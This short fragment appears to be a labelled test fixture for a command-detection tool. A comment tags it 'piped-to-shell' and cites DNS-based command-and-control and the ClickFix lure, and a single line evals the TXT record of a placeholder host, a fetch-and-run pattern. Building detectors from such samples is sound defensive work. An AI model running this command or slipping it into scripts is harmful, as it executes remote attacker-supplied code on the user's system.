# expect: piped-to-shell | source: T1071.004, ClickFix
eval "$(dig +short TXT stage.example.invalid)"
